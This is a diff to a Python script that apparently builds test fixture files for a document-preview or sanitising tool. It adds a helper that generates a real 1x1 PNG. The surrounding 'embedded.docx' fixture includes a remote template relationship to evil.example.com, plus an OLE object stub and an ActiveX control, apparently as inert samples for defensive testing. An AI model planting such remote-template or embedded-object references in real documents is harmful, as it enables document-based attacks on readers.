@@ -52,6 +52,14 @@ TEXT = "住民票の写しを送付します。\r\n①②③ ｶﾀｶﾅ 髙橋
 TEXT_NO_NEC = "住民票の写しを送付します。\n第3条 高橋\n"
 
 
+def tiny_png():
+    """A real 1x1 PNG: images inside OOXML are re-encoded, so a preview must decode."""
+    def chunk(t, data):
+        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\0\x80\x80\x80")) + chunk(b"IEND", b""))
+
+
 def write(name, data):
     with open(os.path.join(out, name), "wb") as f:
         f.write(data)
@@ -214,7 +222,7 @@ makezip("embedded.docx", [
      '<w:zoom w:percent="100"/></w:settings>' % W),
     ("word/_rels/settings.xml.rels", rels(
         ("rId1", "attachedTemplate", "https://evil.example.com/template.dotm", True))),
-    ("word/media/image1.png", b"\x89PNG\r\n\x1a\npreview"),
+    ("word/media/image1.png", tiny_png()),
     ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
     ("word/activeX/activeX1.xml", '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
      'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" r:id="rId1"/>' % R),
